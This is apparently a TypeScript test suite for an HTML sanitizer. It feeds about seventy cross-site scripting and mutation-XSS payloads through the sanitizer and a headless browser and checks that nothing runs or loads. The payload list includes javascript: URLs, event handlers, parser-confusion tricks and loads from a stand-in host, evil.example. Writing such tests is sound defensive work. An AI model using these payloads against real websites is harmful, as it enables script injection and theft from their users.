import { parse } from 'parse5'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchChromium } from '../../test/chromium.ts'
import { urlOf } from '../url.ts'
import { articleHtml } from './article-html.ts'
import { parseFragment, parsePage } from './parse-page.ts'

const URL = urlOf('https://example.org/post/')

/** In each of them something would run (`boom()`), load or lead away, in some parser, if it came through. */
const ATTACKS: readonly string[] = [
  '<script>boom()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=boom()>',
  '<img src=x onerror="boom()" onload=boom()>',
  '<img src="x` onerror=boom()`">',
  "<img src='\"><script>boom()</script>'>",
  "<img alt='\"><img src=x onerror=boom()>' src=/a.png>",
  '<img title="--><script>boom()</script>" src=/a.png>',
  '<img srcset="javascript:boom() 2x, x onerror=boom() 1x">',
  '<img data-src="javascript:boom()" src="data:image/gif;base64,R0lGOD">',
  '<img src="data:image/svg+xml,<svg onload=boom()>">',
  '<a href="javascript:boom()">x</a>',
  '<a href=" \u0001java\tscript:boom()">x</a>',
  '<a href="&#106;&#97;vascript&colon;boom()">x</a>',
  '<a href="JaVaScRiPt&#58;boom()">x</a>',
  '<a href="vbscript:boom()">x</a>',
  '<a href="data:text/html,<script>boom()</script>">x</a>',
  '<a href="//evil.example" onclick=boom() style="position:fixed;inset:0">x</a>',
  '<a href="https://e.org/\'"onmouseover=boom() x=">x</a>',
  '<svg onload=boom()><circle/></svg>',
  '<svg><script>boom()</script></svg>',
  '<svg><a xlink:href="javascript:boom()"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=boom()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=boom()>">',
  '<svg><foreignObject><iframe srcdoc="<script>boom()</script>"></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=boom()>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=boom()&gt;">',
  '<math><mi//xlink:href="data:x,<script>boom()</script>">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=boom()></annotation-xml></math>',
  '<math alttext="<img src=x onerror=boom()>"><mi>x</mi></math>',
  '<math><annotation encoding="application/x-tex"></code><img src=x onerror=boom()></annotation></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom()>',
  '<noscript><p title="</noscript><img src=x onerror=boom()>"></noscript>',
  '<noscript><img src=x onerror=boom()><script>boom()</script></noscript>',
  '<noscript>&lt;img src=x onerror=boom()&gt;</noscript>',
  '<template><img src=x onerror=boom()></template>',
  '<div><template shadowrootmode=open><img src=x onerror=boom()></template></div>',
  '<textarea></textarea><img src=x onerror=boom()>',
  '<title><img src=x onerror=boom()></title>',
  '<xmp><img src=x onerror=boom()></xmp>',
  '<plaintext><img src=x onerror=boom()>',
  '<style>@import "//evil.example/x.css";</style><style><img src=x onerror=boom()></style>',
  '<link rel=stylesheet href="//evil.example/x.css"><link rel=import href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:boom()">',
  '<base href="javascript:boom()//"><a href="x">y</a><img src=x>',
  '<iframe src="javascript:boom()"></iframe>',
  '<iframe srcdoc="<script>parent.boom()</script>"></iframe>',
  '<iframe title=\'"><script>boom()</script>\' src="https://player.example/x"></iframe>',
  '<object data="javascript:boom()"></object><embed src="javascript:boom()">',
  '<object data="data:text/html,<script>boom()</script>"></object>',
  '<form action="javascript:boom()"><input autofocus onfocus=boom()><button formaction="javascript:boom()">x</button></form>',
  '<details open ontoggle=boom()><summary>x</summary>y</details>',
  '<video><source onerror=boom() src=x></video><audio src=x onerror=boom()></audio>',
  '<video poster="javascript:boom()" src="javascript:boom()"></video>',
  '<marquee onstart=boom()>x</marquee><body onload=boom()>',
  '<p style="background:url(javascript:boom())" class="x" id="location" onclick=boom()>x</p>',
  '<pre class="language-x&quot;><img src=x onerror=boom()>"><code>a</code></pre>',
  '<pre><code class="lang-<img src=x onerror=boom()>">&lt;img src=x onerror=boom()&gt;</code></pre>',
  '<ol start="1 onclick=boom()"><li value=\'"><script>boom()</script>\'>x</ol>',
  "<time datetime='\"><script>boom()</script>'>x</time>",
  '<constructor __proto__=x onclick=boom()>x</constructor><x-y onclick=boom()>z</x-y>',
  '<table><td background="javascript:boom()"><img src=x onerror=boom()></table>',
  '<select><option><style></option></select><img src=x onerror=boom()></style>',
  '<a href="https://e.org/?a=1&lt;script&gt;boom()&lt;/script&gt;">x</a>',
  '<p>&lt;script&gt;boom()&lt;/script&gt;</p>',
  '<p>\u0000<scr\u0000ipt>boom()</scr\u0000ipt></p>',
  '<!--><img src=x onerror=boom()>--><!-- --!><img src=x onerror=boom()>',
  '<![CDATA[<img src=x onerror=boom()>]]><?xml <img src=x onerror=boom()> ?>',
  '<p <img src=x onerror=boom()>x',
  '<a href="x" <script>boom()</script> ">y',
]

const ALLOWED_TAGS = new Set(
  (
    'html head body p div a img b i em strong code pre table tbody tr td ol li ul time details summary video audio source ' +
    'br span'
  ).split(' '),
)

const ALLOWED_ATTRIBUTES = new Set('href src alt title class controls datetime lang dir width height'.split(' '))

interface Parsed {
  readonly nodeName: string
  readonly attrs?: readonly { readonly name: string; readonly value: string }[]
  readonly childNodes?: readonly Parsed[]
}

function check(node: Parsed): void {
  if (!node.nodeName.startsWith('#')) expect(ALLOWED_TAGS).toContain(node.nodeName)
  for (const { name, value } of node.attrs ?? []) {
    expect(ALLOWED_ATTRIBUTES).toContain(name)
    if (name === 'href' || name === 'src') expect(value).toMatch(/^https?:\/\/[^"<>\s]+$/)
    if (name === 'class') expect(value).toMatch(/^(?:embed|language-[\w+#.-]+)$/)
  }
  for (const child of node.childNodes ?? []) check(child)
}

function cleaned(attack: string): string[] {
  const wrapped = [
    attack,
    `<div>${attack}`,
    `<table><tr><td>${attack}<td>x</table>`,
    `<p><b>${attack}`,
    `<pre>${attack}`,
  ]
  return wrapped.flatMap(html => {
    const fragment = parseFragment(html, URL)
    const page = parsePage(html, URL)
    return [articleHtml(fragment.root, fragment), articleHtml(page.root, page)]
  })
}

describe('articleHtml under attack', () => {
  it.each(ATTACKS)('lets nothing through of %s', attack => {
    for (const html of cleaned(attack)) check(parse(html, { scriptingEnabled: true }))
    for (const html of cleaned(attack)) check(parse(html, { scriptingEnabled: false }))
  })

  it.each(ATTACKS)('gives the same again when its own output is read: %s', attack => {
    for (const html of cleaned(attack)) {
      const again = parseFragment(html, URL)
      const [body] = again.byTag('body')
      const twice = articleHtml(body?.children ?? [], again)
      const thrice = parseFragment(twice, URL)
      expect(articleHtml(thrice.byTag('body')[0]?.children ?? [], thrice)).toBe(twice)
    }
  })
})

describe('articleHtml in a browser', () => {
  let browser: Browser | null = null

  beforeAll(async () => {
    browser = await launchChromium()
  })

  afterAll(async () => {
    await browser?.close()
  })

  it('runs nothing and asks for nothing but pictures, films and sounds', async context => {
    if (browser === null) return context.skip()
    const tab = await browser.newPage()
    const asked: string[] = []
    let ran = 0
    await tab.exposeFunction('boom', () => ran++)
    await tab.route('**/*', route => {
      asked.push(`${route.request().resourceType()} ${route.request().url()}`)
      return route.abort()
    })
    const html = ATTACKS.flatMap(cleaned).join('\n')
    // Once as a page, once as a scripted page would put it in.
    await tab.setContent(html, { waitUntil: 'domcontentloaded' })
    await tab.evaluate(`document.body.innerHTML = ${JSON.stringify(html)}`)
    await tab.evaluate(
      `document.querySelectorAll('details, a').forEach(one => one.tagName === 'A' || one.toggleAttribute('open'))`,
    )
    await tab.evaluate('new Promise(done => setTimeout(done, 300))')
    expect(ran).toBe(0)
    expect(asked.filter(request => !/^(?:image|media) https?:/.test(request))).toEqual([])
    // The trap itself works.
    await tab.evaluate(`document.body.innerHTML = '<img src="https://example.org/none" onerror="boom()">'`)
    await tab.waitForTimeout(200)
    expect(ran).toBe(1)
  })
})
